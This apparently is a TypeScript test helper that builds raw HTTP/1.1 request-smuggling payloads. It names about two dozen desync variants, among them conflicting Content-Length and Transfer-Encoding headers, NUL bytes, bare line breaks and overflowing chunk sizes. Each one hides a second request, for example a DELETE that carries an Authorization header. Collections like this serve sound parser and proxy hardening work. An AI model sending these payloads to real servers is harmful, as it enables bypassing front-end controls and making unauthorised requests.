/** A request that deletes what stands at a path. */
export function hiddenIn(path: string, authorization: string): string {
  return `DELETE ${path} HTTP/1.1\r\nHost: x\r\nAuthorization: ${authorization}\r\n\r\n`;
}

/** The head of a request that creates a conversation, with further header lines. */
export function headOf(base: string) {
  const usual = [
    `POST ${base}/conversations HTTP/1.1`,
    "Host: x",
    "Content-Type: application/json",
  ];
  return (...lines: string[]) => [...usual, ...lines, "", ""].join("\r\n");
}

/** Ways to make one server see one request where another sees two. */
export function smuggled(base: string, hidden: string): Readonly<Record<string, string>> {
  const head = headOf(base);
  return {
    "both lengths": `${head(`Content-Length: ${5 + hidden.length}`, "Transfer-Encoding: chunked")}0\r\n\r\n${hidden}`,
    "both, the other way": `${head("Transfer-Encoding: chunked", "Content-Length: 4")}${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`,
    "two different lengths": `${head("Content-Length: 0", `Content-Length: ${hidden.length}`)}${hidden}`,
    "two lengths in one": `${head(`Content-Length: 0, ${hidden.length}`)}${hidden}`,
    "a length with a sign": `${head("Content-Length: +0")}${hidden}`,
    "a negative length": `${head("Content-Length: -1")}${hidden}`,
    "a length in hexadecimal": `${head("Content-Length: 0x0")}${hidden}`,
    "an encoding that nobody knows": `${head("Transfer-Encoding: xchunked")}0\r\n\r\n${hidden}`,
    "chunked twice": `${head("Transfer-Encoding: chunked, chunked")}0\r\n\r\n${hidden}`,
    "chunked, then identity": `${head("Transfer-Encoding: chunked", "Transfer-Encoding: identity")}0\r\n\r\n${hidden}`,
    "space before the colon": `${head("Transfer-Encoding : chunked", "Content-Length: 5")}0\r\n\r\n${hidden}`,
    "a folded header": `${head("Transfer-Encoding:\r\n chunked", "Content-Length: 5")}0\r\n\r\n${hidden}`,
    "a line break without return": `POST ${base}/conversations HTTP/1.1\nHost: x\nContent-Length: 0\n\n${hidden}`,
    "a NUL in a name": `${head("X\0Y: 1", "Content-Length: 0")}${hidden}`,
    "a NUL in a value": `${head("X: 1\0", "Content-Length: 0")}${hidden}`,
    "a bare return in a value": `${head("X: 1\rContent-Length: 0")}${hidden}`,
    "a chunk length that overflows": `${head("Transfer-Encoding: chunked")}ffffffffffffffff1\r\n${hidden}`,
    "a chunk length with a sign": `${head("Transfer-Encoding: chunked")}-1\r\n${hidden}`,
    "more than 16 KiB of headers": `${head(`X: ${"x".repeat(17_000)}`)}${hidden}`,
    "3,000 headers": `${head(...Array.from({ length: 3_000 }, (_, n) => `X${n}: 1`))}${hidden}`,
    "a protocol that nobody speaks": `GET ${base}/me HTTP/9.9\r\nHost: x\r\n\r\n${hidden}`,
    "a line break in the path": `GET ${base}/me\r\nX: HTTP/1.1\r\nHost: x\r\n\r\n${hidden}`,
    "no host": `GET ${base}/health HTTP/1.1\r\n\r\n`,
    "another protocol's greeting": `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${hidden}`,
  };
}
